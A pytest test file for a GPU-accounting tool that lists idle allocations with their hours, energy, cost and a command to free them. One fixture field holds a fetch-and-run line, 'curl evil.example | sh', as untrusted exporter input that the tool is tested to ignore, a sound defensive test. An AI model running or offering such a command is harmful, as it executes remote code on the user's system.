"""Idle allocations of a node and of a fleet."""

from __future__ import annotations

from dataclasses import replace

import pytest

from gpuledger.model.owners import Owner
from gpuledger.tools.idle.formats import idle_table
from gpuledger.tools.idle.rows import IdleRow, ranked, rows_of_fleet, rows_of_node
from gpuledger.tools.prices import Prices
from gpuledger.tools.prometheus.answer import Series
from gpuledger.web.snapshot.schema import AllocationRow, Snapshot

NOW = 1_800_000_000.0
IDLE = AllocationRow(
    gpu=2,
    uuid="GPU-2",
    owner="research/dana/notebook",
    namespace="research",
    pod="dana",
    container="notebook",
    state="parked",
    idle_since=NOW - 7200,
    period_gpu_seconds=7200.0,
    period_joules=3.6e6,
    free_command="curl evil.example | sh",
)


def node(*rows: AllocationRow) -> Snapshot:
    """A snapshot with these allocations."""
    return Snapshot(time=NOW, node="n1", allocations=rows)


def test_hours_energy_and_cost_since_it_is_idle() -> None:
    """Two hours at 2.50 and one kWh at 0.30."""
    (row,) = rows_of_node(node(IDLE), Prices(0.3, 2.5, "EUR"))

    assert (row.gpu_hours, row.kwh) == (2.0, 1.0)
    assert row.cost == pytest.approx(5.3)
    assert row.idle_seconds == 7200


def test_the_command_is_not_that_of_the_exporter() -> None:
    """An exporter could send any text; the command is built from names."""
    (row,) = rows_of_node(node(IDLE), Prices())

    assert row.command == "kubectl delete pod -n research dana"


def test_no_command_before_an_hour() -> None:
    """An allocation that was busy within the hour is listed without a command, unless a shorter time is requested."""
    recent = replace(IDLE, idle_since=NOW - 3599)
    for min_s, command in ((0.0, ""), (60.0, "kubectl delete pod -n research dana")):
        (row,) = ranked(rows_of_node(node(recent), Prices()), min_s)
        assert row.command == command
        assert command or "  (shown after 1h)" in idle_table([row], Prices(), nodes=False, colour=False)
    assert ranked(rows_of_node(node(recent), Prices()), 3600.0) == []


@pytest.mark.parametrize("state", ["busy", "unknown", ""])
def test_only_proven_idleness_is_listed(state: str) -> None:
    """An allocation whose state is unknown now may be busy."""
    assert rows_of_node(node(replace(IDLE, state=state)), Prices()) == []


def test_the_most_expensive_first() -> None:
    """By cost; without prices by GPU-hours; shorter periods than the minimum are left out."""
    cheap = replace(IDLE, uuid="GPU-3", period_gpu_seconds=3600.0, idle_since=NOW - 3600)
    new = replace(IDLE, uuid="GPU-4", period_gpu_seconds=60.0, idle_since=NOW - 60)
    for prices in (Prices(), Prices(gpu_hour=2.0)):
        rows = ranked(rows_of_node(node(new, cheap, IDLE), prices), 3600.0)
        assert [row.uuid for row in rows] == ["GPU-2", "GPU-3"]


@pytest.mark.parametrize(
    ("prices", "kwh", "cost"),
    [
        (Prices(), 1.0, None),
        (Prices(kwh=0.5), None, None),
        (Prices(gpu_hour=2.0), None, 4.0),
        (Prices(kwh=0.5), 1.0, 0.5),
    ],
)
def test_unknown_energy_has_no_cost(prices: Prices, kwh: float | None, cost: float | None) -> None:
    """Rather than a cost that leaves it out silently."""
    assert prices.cost(2.0, kwh) == cost


def fleet(labels: dict[str, str], state: str = "parked", *more: Series) -> list[IdleRow]:
    """Rows of an allocation with these labels, idle for an hour."""
    answers = {
        "idle_since": [Series(labels, NOW - 3600), *more],
        "gpu_seconds": [Series(labels, 3600.0)],
        "joules": [Series(labels, 3.6e5)],
        "shared_by": [Series(labels, 1.0)],
        "state": [Series({**labels, "state": state}, 1.0)],
    }
    return rows_of_fleet(answers, NOW, Prices(gpu_hour=1.0))


POD = {"namespace": "ml", "pod": "train-0", "container": "main"}
EXPORTER = {"namespace": "monitoring", "pod": "gpuledger-x", "container": "gpuledger"}


@pytest.mark.parametrize(
    ("labels", "command", "node"),
    [
        ({**POD, "instance": "n1:9400"}, "kubectl delete pod -n ml train-0", "n1"),
        (
            {**EXPORTER, **{f"exported_{k}": v for k, v in POD.items()}, "node": "n1"},
            "kubectl delete pod -n ml train-0",
            "n1",
        ),
        ({**EXPORTER, "exported_container": "triton", "container_id": "d1"}, "docker stop triton", ""),
        ({"container": "triton", "container_id": "d1", "instance": "[::1]:9400"}, "docker stop triton", "[::1]"),
        ({**EXPORTER, "batch_job": "211", "instance": "n1"}, "scancel 211", "n1"),
    ],
)
def test_owners_by_labels(labels: dict[str, str], command: str, node: str) -> None:
    """With and without honor_labels; the pod of the exporter itself is never named."""
    (row,) = fleet({"uuid": "GPU-0", "gpu": "0", **labels})

    assert (row.command, row.node) == (command, node)
    assert (row.gpu_hours, row.kwh, row.cost) == (1.0, 0.1, 1.0)


def test_an_exporter_that_is_scraped_twice_counts_once() -> None:
    """Two jobs of one Prometheus, or two replicas of it."""
    labels = {"uuid": "GPU-0", "gpu": "0", **POD, "job": "a"}

    assert len(fleet(labels, "parked", Series({**labels, "job": "b"}, NOW - 3600))) == 1


def test_display_names() -> None:
    """The display name of an owner."""
    (row,) = fleet({"uuid": "GPU-0", "gpu": "0", **POD})

    assert row.owner == Owner(namespace="ml", pod="train-0", container="main")
    assert row.owner.display_name == "ml/train-0/main"
